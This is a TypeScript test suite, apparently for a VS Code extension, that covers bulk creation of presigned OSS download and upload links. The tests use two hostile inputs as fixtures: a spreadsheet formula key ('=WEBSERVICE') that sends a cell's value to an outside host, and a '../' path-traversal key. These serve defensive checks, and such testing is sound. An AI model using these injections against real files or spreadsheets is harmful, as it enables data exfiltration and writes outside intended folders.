import assert from 'node:assert/strict';
import { mkdtemp, readdir, readFile, rm, stat, utimes, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { multipartUploadLinks } from '../../../../src/features/bulk/multipartUploadLinks.ts';
import { writeBulkLinks } from '../../../../src/features/bulk/writeBulkLinks.ts';
import { bulkFormats } from '../../../../src/links/bulk/bulkFormats.ts';
import { createBulkSigner, type BulkSigner } from '../../../../src/links/bulk/bulkSigner.ts';
import type { BulkTarget } from '../../../../src/links/bulk/bulkText.ts';
import { formatMoment } from '../../../../src/text/moment.ts';
import type { HttpRequest, HttpResponse } from '../../../../src/oss/client/transport.ts';
import type { TreeNode } from '../../../../src/tree/nodes.ts';
import { STS_KEY } from '../../../support/profiles/loopbackOss.ts';
import { BACK } from '../../../../src/ui/prompts/questions.ts';
import { ESCAPE, ScriptedPrompts } from '../../../support/ui/scriptedPrompts.ts';
import { escapeSilently, validityOf, withBench } from '../../../support/features/commandBench.ts';

const VALIDITY = '15 minutes';
/** Windows has no such modes. */
const PRIVATE_MODE = process.platform === 'win32' ? 0o666 : 0o600;

describe('links in bulk', () => {
  const bench = withBench();
  const answers = (...filter: readonly string[]): ScriptedPrompts =>
    new ScriptedPrompts(...filter, VALIDITY, 'JSON Lines');
  const lines = (): readonly Record<string, string>[] =>
    (bench().opened.at(-1)?.text ?? assert.fail('nothing was opened'))
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Record<string, string>);
  const keys = (): readonly (string | undefined)[] => lines().map(({ key }) => key);
  const tooMany = async (count: number): Promise<TreeNode> => {
    for (let index = 0; index < count; index++) await bench().oss.emulator.putObject('logs', `many/${index}`, '');
    return bench().node('logs', 'many/');
  };

  it('are created for every object in a bucket, in an editor', async () => {
    await bench().run('bulkLinks', [await bench().node('docs')], answers('All objects'));
    assert.deepEqual(keys(), ['readme.txt', 'reports/2026.pdf', 'reports/summary.md', '报告/三.pdf']);
    for (const { key, url = '' } of lines()) {
      assert.equal(validityOf(url), '900');
      assert.equal((await bench().use(url, 'GET')).text, `content of ${key}`);
    }
    assert.match(
      bench().messages.at(-1) ?? '',
      /^info: Opened 4 links \(expire at .+\)\. Anyone who has them can use them\.$/,
    );
    const [batch] = bench().ledger.list();
    assert.deepEqual([batch?.key, batch?.batchCount, batch?.format, batch?.method], ['', 4, 'jsonl', 'GET']);
    const creating = bench().progresses.find(({ title }) => title === 'Creating links');
    assert.deepEqual(creating?.reports.at(-1), { done: 1, message: '4 of 4' });
  });

  it('are read-only in editors, so that VS Code backs none of them up, and are saved and copied on demand', async () => {
    await bench().run('bulkLinks', [await bench().node('docs')], answers('All objects'));
    const [{ name = '', text } = assert.fail('nothing was opened')] = bench().opened;
    assert.equal(name, 'docs links.jsonl');
    bench().activeLinkDocument = { name, text };
    await bench().run('copyLinkText');
    assert.equal(bench().clipboard.at(-1), text);
    const folder = await mkdtemp(path.join(tmpdir(), 'oss-links-bulk-'));
    try {
      bench().downloadFolder = folder;
      await bench().run('saveLinks');
      assert.equal(await readFile(path.join(folder, name), 'utf8'), text);
      assert.equal((await stat(path.join(folder, name))).mode & 0o777, PRIVATE_MODE);
      assert.deepEqual(bench().askedFiles, [{ name, isSecret: true }]);
    } finally {
      await rm(folder, { recursive: true });
    }
    bench().activeLinkDocument = undefined;
    await bench().run('saveLinks');
    assert.equal(bench().askedFiles.length, 1);
  });

  it('contain no formula in the CSV for spreadsheets, and unchanged keys in the exact CSV', async () => {
    const key = '=WEBSERVICE("https://x/?"&F2)';
    await bench().oss.emulator.putObject('logs', key, 'x');
    const rows: string[] = [];
    for (const format of ['CSV for spreadsheets', 'CSV, exact']) {
      await bench().run(
        'bulkLinks',
        [await bench().node('logs')],
        new ScriptedPrompts('All objects', VALIDITY, format),
      );
      rows.push(bench().opened.at(-1)?.text ?? '');
    }
    assert.match(rows[0] ?? '', /^\uFEFFkey,size,.*\r\n"'=WEBSERVICE/);
    assert.match(rows[1] ?? '', /^key,size,.*\r\n"=WEBSERVICE/);
  });

  it('warn that they may expire with a token', async () => {
    await bench().oss.saveProfile({}, STS_KEY);
    await bench().run('bulkLinks', [await bench().node('docs')], answers('All objects'));
    assert.match(bench().messages.at(-1) ?? '', /^warn: Signed with temporary credentials: /);
  });

  it('links only the objects that pass the filter', async () => {
    const prompts = answers('Name', '*.pdf', 'Objects that match');
    await bench().run('bulkLinks', [await bench().node('docs')], prompts);
    assert.deepEqual(keys(), ['reports/2026.pdf', '报告/三.pdf']);
    assert.ok(prompts.texts.includes('Prefix or pattern such as *.pdf (case-sensitive)'));
  });

  it('have whole names where a filter selects by their beginning', async () => {
    const prompts = new ScriptedPrompts('Name', 'rep', 'Objects that match', VALIDITY, 'wget');
    await bench().run('bulkLinks', [await bench().node('docs')], prompts);
    assert.match(bench().opened.at(-1)?.text ?? '', / -O reports\/summary\.md /);
  });

  it('links only the objects of the folder that is asked for without a selection', async () => {
    const folder = [{ type: 'reports', pick: 'Use docs/reports/' }] as const;
    await bench().run('bulkLinks', [], new ScriptedPrompts('docs', ...folder, 'All objects', VALIDITY, 'JSON Lines'));
    assert.deepEqual(keys(), ['reports/2026.pdf', 'reports/summary.md']);
  });

  it('link all objects again once the filter is cleared', async () => {
    const prompts = answers('Name', '*.pdf', 'Clear Filter', 'All objects');
    await bench().run('bulkLinks', [await bench().node('docs')], prompts);
    assert.equal(keys().length, 4);
  });

  it('keep the typed filter and the chosen validity, which are shown when they are asked for again', async () => {
    const replies = ['Name', '*.pdf', 'Name', ESCAPE];
    const filtered = new ScriptedPrompts(...replies);
    await bench().run('bulkLinks', [await bench().node('docs')], filtered);
    assert.equal(filtered.last.value, '*.pdf');
    const back = new ScriptedPrompts('All objects', '2 hours', BACK, ESCAPE);
    await bench().run('bulkLinks', [await bench().node('docs')], back);
    assert.equal(back.last.activeLabel, '2 hours');
  });

  for (const [command, replies] of [
    ['bulkLinks', ['All objects']],
    ['bulkPutLinks', ['From Clipboard']],
    ['multipartUploadLinks', ['big.bin', '150000000']],
  ] as const) {
    it(`of ${command} are offered no validity above the maximum`, async () => {
      bench().clipboardText = 'a.txt';
      bench().maxValiditySeconds = 3600;
      const prompts = new ScriptedPrompts(...replies, ESCAPE);
      await bench().run(command, [await bench().node('docs', 'reports/')], prompts);
      assert.ok(prompts.last.labels.includes('1 hour'));
      assert.ok(!prompts.last.labels.includes('1 day'));
    });
  }

  it('are counted before, with the size of the objects', async () => {
    const counted = async (filter: string): Promise<string | undefined> => {
      const folder = await bench().node('docs', 'reports/');
      await bench().run('bulkLinks', [folder], answers('Name', filter, 'Objects that match'));
      const counting = bench().progresses.findLast(({ title }) => title === 'Counting objects');
      return counting?.reports.at(-1)?.message;
    };
    assert.match((await counted('2026.pdf')) ?? '', /^1 object \(\d+ B\)$/);
    assert.match((await counted('*')) ?? '', /^2 objects \(\d+ B\)$/);
  });

  it('start with the filter of the tree', async () => {
    const folder = await bench().node('docs', 'reports/');
    assert.ok(folder.kind === 'folder');
    bench().tree.filter(folder, 'sum*');
    await bench().run('bulkLinks', [folder], answers('Objects that match'));
    assert.deepEqual(keys(), ['reports/summary.md']);
  });

  it('include each selected object once, without asking for a filter if only objects are selected', async () => {
    const nodes = [await bench().node('docs', 'readme.txt'), await bench().node('docs', 'reports/2026.pdf')];
    await bench().run('bulkLinks', [nodes[0], nodes], answers());
    assert.deepEqual(keys(), ['readme.txt', 'reports/2026.pdf']);
    const mixed = [await bench().node('docs', 'reports/'), nodes[1]];
    await bench().run('bulkLinks', [mixed[0], mixed], answers('All objects'));
    assert.deepEqual(keys(), ['reports/2026.pdf', 'reports/summary.md']);
  });

  it('leave out objects that only mark folders', async () => {
    await bench().oss.emulator.putObject('docs', 'reports/sub/', '');
    await bench().run('bulkLinks', [await bench().node('docs', 'reports/')], answers('All objects'));
    assert.deepEqual(keys(), ['reports/2026.pdf', 'reports/summary.md']);
  });

  it('save files inside the folder only, in the formats that save files', async () => {
    await bench().oss.emulator.putObject('logs', 'a/../../b.txt', 'x');
    const folder = await bench().node('logs', 'a/');
    await bench().run('bulkLinks', [folder], new ScriptedPrompts('All objects', VALIDITY, 'aria2'));
    const [, file = ''] = /^ {2}out=(.*)$/m.exec(bench().opened.at(-1)?.text ?? '') ?? [];
    assert.match(file, /b\.txt$/);
    assert.ok(!file.split('/').includes('..'), file);
    await bench().run('bulkLinks', [folder], new ScriptedPrompts('All objects', VALIDITY, 'wget'));
    assert.doesNotMatch((bench().opened.at(-1)?.text ?? '').replaceAll(/http[^' ]+/g, ''), /\.\.\//);
    await bench().run('bulkLinks', [folder], new ScriptedPrompts('All objects', VALIDITY, 'JSON Lines'));
    assert.deepEqual(keys(), ['a/../../b.txt']);
  });

  it('state the expiry of the one that expires first', async () => {
    const { now } = bench().oss;
    const signerOf = ({ bucket }: BulkTarget): Promise<BulkSigner> => {
      const expiration = new Date(now().getTime() + (bucket === 'docs' ? 7200 : 3600) * 1000);
      const link = { url: 'https://example.com/', method: 'GET' as const, signedHeaders: {}, expiration };
      const signer = { host: 'https://example.com', warnings: [], expiration, sign: () => Promise.resolve(link) };
      return Promise.resolve({ ...signer, presign: () => assert.fail('only objects are linked') });
    };
    const format = bulkFormats[0] ?? assert.fail();
    await writeBulkLinks(
      {
        ...{ title: 'links', count: 2, format, method: 'GET', signerOf, batches: [] },
        pages: async function* () {
          const target = { profileId: 'p1', key: 'a.txt', path: 'a.txt' };
          yield await Promise.resolve([
            { ...target, bucket: 'docs' },
            { ...target, bucket: 'logs' },
          ]);
        },
      },
      bench().services(new ScriptedPrompts()),
    );
    const moment = formatMoment(new Date(now().getTime() + 3_600_000), { now: now(), locale: 'en' });
    assert.equal(
      bench().messages.at(-1),
      `info: Opened 2 links (expire at ${moment}). Anyone who has them can use them.`,
    );
  });

  it('that expired while the others were created are not handed out without a word', async () => {
    let passedMs = 0;
    const services = bench().services(new ScriptedPrompts());
    const now = (): Date => new Date(services.now().getTime() + passedMs);
    const format = bulkFormats[0] ?? assert.fail();
    const folder = { profileId: 'p1', bucket: 'docs', prefix: '' };
    const write = async (laterMs: number): Promise<string> => {
      const before = bench().messages.length;
      const pages = async function* (): AsyncGenerator<readonly BulkTarget[]> {
        passedMs = 0;
        yield await Promise.resolve([{ ...folder, key: 'a.txt', path: 'a.txt' }]);
        passedMs = laterMs;
      };
      const signerOf = (): Promise<BulkSigner> =>
        createBulkSigner(folder, { method: 'GET', validity: '15m' }, { ...services, now });
      const work = { title: 'links', count: 1, format, method: 'GET', signerOf, pages } as const;
      await writeBulkLinks({ ...work, batches: [{ ...folder, count: 1 }] }, { ...services, now });
      return bench().messages.slice(before).join('\n');
    };
    assert.doesNotMatch(await write(899_000), /^warn: /m);
    assert.match(await write(900_000), /^warn: Links expired while the others were created\./m);
  });

  it('report that no object matches', async () => {
    await bench().run('bulkLinks', [await bench().node('docs')], answers('Name', '*.exe', 'Objects that match'));
    assert.deepEqual(bench().messages, ['info: No objects match the filter']);
    assert.deepEqual(bench().opened, []);
  });

  it('are not created after Escape at any step, and no message is shown', async () =>
    escapeSilently(bench(), 'bulkLinks', [await bench().node('docs')], ['All objects', VALIDITY, 'CSV, exact']));

  describe('above a thousand', () => {
    let saveFolder = '';
    beforeEach(async () => {
      saveFolder = await mkdtemp(path.join(tmpdir(), 'oss-links-bulk-'));
      bench().downloadFolder = saveFolder;
    });
    afterEach(() => rm(saveFolder, { recursive: true }));

    it('are not more than a thousand, which open in an editor without a question', async () => {
      await bench().run('bulkLinks', [await tooMany(1000)], answers('All objects'));
      assert.equal(lines().length, 1000);
      assert.deepEqual(bench().askedFiles, []);
    });

    it('need a confirmation with count and size, and are written to a file', async () => {
      const folder = await tooMany(1001);
      await bench().run('bulkLinks', [folder], new ScriptedPrompts('All objects', VALIDITY, 'Text', 'Create Links'));
      const text = await readFile(path.join(saveFolder, 'logs many links.txt'), 'utf8');
      assert.equal(text.trimEnd().split('\n').length, 1001);
      assert.match(bench().messages.at(-1) ?? '', /^info: Saved 1,001 links to logs many links\.txt \(expire at /);
      assert.equal(bench().ledger.list()[0]?.batchCount, 1001);
      assert.deepEqual(bench().askedFiles, [{ name: 'logs many links.txt', isSecret: true }]);
      assert.equal((await stat(path.join(saveFolder, 'logs many links.txt'))).mode & 0o777, PRIVATE_MODE);
      const [open] = bench().shownMessages.at(-1)?.actions ?? [];
      assert.deepEqual(bench().openedFiles, []);
      await open?.run();
      assert.deepEqual(bench().openedFiles, ['logs many links.txt']);
    });

    it('are not created, and nothing is asked, if the user cancels while objects are counted', async () => {
      const folder = await tooMany(1001);
      bench().onProgress = (cancel) => {
        if (bench().progresses.at(-1)?.title === 'Counting objects') cancel();
      };
      await bench().run('bulkLinks', [folder], new ScriptedPrompts('All objects', VALIDITY, 'Text'));
      assert.deepEqual(bench().askedFiles, []);
      bench().assertSilent();
    });

    it('leave no partial file for long: the remains of a crash are deleted at the next run', async () => {
      const [old, running] = ['logs many links.txt.old.part', 'logs many links.txt.running.part'];
      for (const name of [old, running]) await writeFile(path.join(saveFolder, name), 'links');
      const hourAgo = new Date(Date.now() - 3_600_000);
      await utimes(path.join(saveFolder, old), hourAgo, hourAgo);
      bench().activeLinkDocument = { name: 'logs many links.txt', text: 'https://example.com/' };
      await bench().run('saveLinks');
      assert.deepEqual((await readdir(saveFolder)).sort(), ['logs many links.txt', running]);
    });

    it('leave no file if the user cancels while they are written', async () => {
      const folder = await tooMany(1001);
      bench().onReport = (cancel) => {
        if (bench().progresses.at(-1)?.title === 'Creating links') cancel();
      };
      await bench().run('bulkLinks', [folder], new ScriptedPrompts('All objects', VALIDITY, 'Text', 'Create Links'));
      assert.deepEqual(await readdir(saveFolder), []);
      assert.deepEqual(bench().messages, ['status: Canceled. No file was saved.']);
      assert.deepEqual(bench().ledger.list(), []);
    });

    it('are not created if the confirmation is declined', async () => {
      const folder = await tooMany(1001);
      const prompts = new ScriptedPrompts('All objects', VALIDITY, 'Text', undefined);
      await bench().run('bulkLinks', [folder], prompts);
      assert.equal(prompts.last.text, 'Create links to 1,001 objects (0 B)?');
      assert.deepEqual(await readdir(saveFolder), []);
      assert.deepEqual(bench().ledger.list(), []);
    });
  });

  it('of any kind are not created after Escape at any question', async () => {
    bench().clipboardText = 'a.txt';
    const folder = await bench().node('docs', 'reports/');
    for (const [command, replies] of [
      ['bulkPutLinks', ['From Clipboard', VALIDITY, 'Text']],
      ['multipartUploadLinks', ['big.bin', '150000000', VALIDITY]],
    ] as const) {
      await escapeSilently(bench(), command, [folder], replies);
    }
    assert.deepEqual([bench().opened, bench().ledger.list()], [[], []]);
  });

  describe('for uploads', () => {
    it('are not opened if the user cancels while they are created', async () => {
      bench().clipboardText = Array.from({ length: 3000 }, (_, index) => `f${index}.txt`).join('\n');
      bench().onReport = (cancel) => {
        if (bench().progresses.at(-1)?.title === 'Creating links') cancel();
      };
      const prompts = new ScriptedPrompts('From Clipboard', VALIDITY, 'Text');
      await bench().run('bulkPutLinks', [await bench().node('docs', 'reports/')], prompts);
      bench().assertSilent();
      assert.deepEqual(bench().opened, []);
      assert.deepEqual(bench().ledger.list(), []);
    });

    it('use each name on the clipboard once, with the content type of the name', async () => {
      bench().clipboardText = 'a.txt\r\n\n  b.png \na.txt\n';
      const folder = await bench().node('docs', 'reports/');
      await bench().run('bulkPutLinks', [folder], new ScriptedPrompts('From Clipboard', VALIDITY, 'JSON Lines'));
      assert.deepEqual(keys(), ['reports/a.txt', 'reports/b.png']);
      const [batch] = bench().ledger.list();
      assert.deepEqual([batch?.key, batch?.batchCount, batch?.method], ['reports/', 2, 'PUT']);
      const [first = assert.fail('no line')] = lines();
      assert.deepEqual(first['headers'], { 'content-type': 'text/plain;charset=utf-8' });
      assert.equal(
        (await bench().use(first['url'] ?? '', 'PUT', { 'content-type': 'text/plain;charset=utf-8' }, 'x')).status,
        200,
      );
    });

    it('report an invalid name with its line number on the clipboard', async () => {
      bench().clipboardText = `fine.txt\n\nfine.txt\r\n${'x'.repeat(1100)}`;
      const folder = await bench().node('docs', 'reports/');
      await bench().run('bulkPutLinks', [folder], new ScriptedPrompts('From Clipboard'));
      assert.match(bench().messages[0] ?? '', /^error: Line 4 is not a valid object name: /);
    });

    it('ask again for the source of the names if no files are chosen', async () => {
      bench().clipboardText = 'a.txt';
      const replies = ['From Files on This Computer…', 'From Clipboard', VALIDITY, 'JSON Lines'];
      await bench().run('bulkPutLinks', [await bench().node('docs', 'reports/')], new ScriptedPrompts(...replies));
      assert.deepEqual(keys(), ['reports/a.txt']);
    });

    it('refuse the name of a chosen file that OSS does not accept, before anything else is asked', async () => {
      bench().pickedFiles = [bench().file(`/home/${'x'.repeat(1100)}`, 'content')];
      const prompts = new ScriptedPrompts('From Files on This Computer…');
      await bench().run('bulkPutLinks', [await bench().node('docs', 'reports/')], prompts);
      assert.match(bench().messages[0] ?? '', /^error: .*1,?023/);
    });

    it('propose files if the clipboard has no names', async () => {
      bench().clipboardText = '\n';
      const prompts = new ScriptedPrompts(undefined);
      await bench().run('bulkPutLinks', [await bench().node('docs', 'reports/')], prompts);
      assert.equal(prompts.last.activeLabel, 'From Files on This Computer…');
      assert.ok(prompts.last.readable.includes('no names; copy them first, one per line'));
    });

    it('report the number of names', async () => {
      bench().clipboardText = Array.from({ length: 1234 }, (_, index) => `${index}.txt`).join('\n');
      const prompts = new ScriptedPrompts(undefined);
      await bench().run('bulkPutLinks', [await bench().node('docs', 'reports/')], prompts);
      assert.ok(prompts.last.readable.includes('1,234 names, one per line'));
    });
  });

  describe('of an upload in parts', () => {
    const asked = (): ScriptedPrompts => new ScriptedPrompts('big.bin', '250000000', VALIDITY);
    const calls = (): readonly unknown[] =>
      bench()
        .oss.emulator.requests.filter(({ query }) => query.has('uploads') || query.has('uploadId'))
        .map(({ operation, status }) => `${operation} ${status}`);

    it('are dropped and the upload is aborted if the user cancels while it is initiated', async () => {
      const { transport } = bench().oss;
      const send = transport.request.bind(transport);
      let leave = (): void => undefined;
      bench().onReport = (cancel) => (leave = cancel);
      const leaving = (request: HttpRequest): Promise<HttpResponse> => {
        const answer = send(request);
        if (request.path.endsWith('uploads')) leave();
        return answer;
      };
      Object.assign(transport, { request: leaving });
      await bench().run('multipartUploadLinks', [await bench().node('docs', 'reports/')], asked());
      assert.deepEqual(calls(), ['InitiateMultipartUpload 200', 'AbortMultipartUpload 204']);
      assert.deepEqual(bench().opened, []);
      assert.deepEqual(bench().ledger.list(), []);
      bench().assertSilent();
    });

    it('are not created if the user cancels before the upload is initiated', async () => {
      bench().onReport = (cancel) => {
        cancel();
      };
      await bench().run('multipartUploadLinks', [await bench().node('docs', 'reports/')], asked());
      assert.deepEqual(calls(), []);
      bench().assertSilent();
    });

    it('report an initiated upload that cannot be aborted', async () => {
      bench().oss.emulator.faults.add({
        kind: 'status',
        status: 403,
        code: 'AccessDenied',
        match: { method: 'DELETE' },
      });
      let reports = 0;
      bench().onReport = (cancel) => {
        if (++reports === 2) cancel();
      };
      await bench().run('multipartUploadLinks', [await bench().node('docs', 'reports/')], asked());
      assert.deepEqual(calls(), ['InitiateMultipartUpload 200', 'AbortMultipartUpload 403']);
      assert.match(bench().messages.join('\n'), /^error: .*AccessDenied/);
    });

    it('are dropped and the upload is aborted if no editor opens', async () => {
      const services = bench().services(asked());
      const linkDocuments = { ...services.linkDocuments, show: () => Promise.reject(new Error('no editor')) };
      const folder = { profileId: 'p1', bucket: 'docs', prefix: '' };
      await assert.rejects(multipartUploadLinks({ folder }, { ...services, linkDocuments }), /no editor/);
      assert.deepEqual(calls(), ['InitiateMultipartUpload 200', 'AbortMultipartUpload 204']);
    });
  });

  describe('of a profile with a link role', () => {
    const refusal =
      'warn: Each link of profile "Work" is signed by its own role session, so links can\'t be created in bulk. Copy them one by one, or let the role sign only links that ask for it.';
    const signEveryLink = (id: string): Promise<void> =>
      bench().oss.profiles.saveLinkRole(id, {
        roleArn: 'acs:ram::1:role/sharer',
        maxSessionSeconds: 3600,
        forEveryLink: true,
      });
    beforeEach(() => signEveryLink('p1'));

    for (const command of ['bulkLinks', 'bulkPutLinks', 'multipartUploadLinks'] as const) {
      it(`are refused by ${command} before any question, with a next step`, async () => {
        const { memory, oss } = bench();
        await memory.rememberUploadFolder({ profileId: 'p1', bucket: 'docs', prefix: '' });
        for (const args of [[await bench().node('docs', 'reports/')], []]) {
          await bench().run(command, args);
          const { kind, message, actions } = bench().shownMessages.at(-1) ?? assert.fail('nothing was told');
          assert.equal(`${kind}: ${message}`, refusal);
          assert.deepEqual(
            actions.map(({ label }) => label),
            ['Choose Link Role…'],
          );
        }
        assert.deepEqual(
          oss.exchanges.filter(({ operation }) => operation === 'InitiateMultipartUpload'),
          [],
        );
      });

      it(`are refused by ${command} as soon as that profile is chosen`, async () => {
        await bench().oss.saveProfile({ id: 'p2', name: 'Other' });
        await bench().run(command, [], new ScriptedPrompts('Work'));
        assert.deepEqual(bench().messages, [refusal]);
      });
    }

    it('are refused if the last upload folder belongs to that profile', async () => {
      await bench().memory.rememberUploadFolder({ profileId: 'p1', bucket: 'docs', prefix: '' });
      await bench().oss.saveProfile({ id: 'p2', name: 'Other' });
      await bench().run('bulkPutLinks', [], new ScriptedPrompts('docs/'));
      assert.deepEqual(bench().messages, [refusal]);
    });

    it('can be created once the role signs on request only, which the next step leads to', async () => {
      const prompts = new ScriptedPrompts();
      await bench().run('bulkLinks', [await bench().node('docs')], prompts);
      prompts.then(undefined);
      await bench().shownMessages[0]?.actions[0]?.run();
      assert.equal(prompts.last.place.title, 'Choose Link Role · Work');
      const role = bench().oss.profiles.get('p1').linkRole ?? assert.fail('there is no role');
      await bench().oss.profiles.saveLinkRole('p1', { ...role, forEveryLink: false });
      await bench().run('bulkLinks', [await bench().node('docs')], answers('All objects'));
      assert.equal(keys().length, 4);
    });
  });

  it('of a multipart upload for an object that exists say that they overwrite it', async () => {
    const overwrites = /It overwrites summary\.md\.$/;
    const asked = (): ScriptedPrompts => new ScriptedPrompts('150000000', VALIDITY);
    await bench().run('multipartUploadLinks', [await bench().node('docs', 'reports/summary.md')], asked());
    assert.match(bench().messages.at(-1) ?? '', overwrites);
    const inFolder = new ScriptedPrompts('new.bin', '150000000', VALIDITY);
    await bench().run('multipartUploadLinks', [await bench().node('docs', 'reports/')], inFolder);
    assert.match(bench().messages.at(-1) ?? '', /^info: Opened links for 2 parts \(expire at .* for its parts\.$/);
    const small = new ScriptedPrompts('small.bin', '1000', VALIDITY);
    await bench().run('multipartUploadLinks', [await bench().node('docs', 'reports/')], small);
    assert.match(bench().messages.at(-1) ?? '', /^info: Opened links for 1 part \(expire at .* for the part\.$/);
  });

  it('of a multipart upload upload a file without credentials', async () => {
    const folder = await bench().node('docs', 'reports/');
    await bench().run('multipartUploadLinks', [folder], new ScriptedPrompts('film.mp4', '150000000', VALIDITY));
    const script = bench().opened[0]?.text ?? assert.fail('nothing was opened');
    const urls = [...script.matchAll(/^part \d+ '(.+)'$/gm)].map(([, url = '']) => url);
    assert.equal(urls.length, 2);
    const [complete = '', abort = ''] = ['POST', 'DELETE'].map(
      (method) => new RegExp(`-X ${method} .*'(http.+)' >/dev/null`).exec(script)?.[1] ?? '',
    );
    assert.notEqual(abort, '');
    // The last part of an upload may have any size, and here it is the only one.
    assert.equal((await bench().use(urls[0] ?? '', 'PUT', {}, 'all of it')).status, 200);
    assert.equal((await bench().use(complete, 'POST', { 'x-oss-complete-all': 'yes' })).status, 200);
    assert.equal((await bench().oss.emulator.readObject('docs', 'reports/film.mp4')).toString(), 'all of it');
    const { headers } = bench().oss.emulator.object('docs', 'reports/film.mp4') ?? assert.fail('it is not stored');
    assert.equal(headers['content-type'], 'video/mp4');
    assert.match(bench().messages.at(-1) ?? '', /^info: Opened links for 2 parts \(expire at .+--abort/);
    const { key, batchCount, method, format } = bench().ledger.list()[0] ?? assert.fail('nothing was recorded');
    assert.deepEqual([key, batchCount, method, format], ['reports/film.mp4', 2, 'PUT', 'multipart']);
  });
});
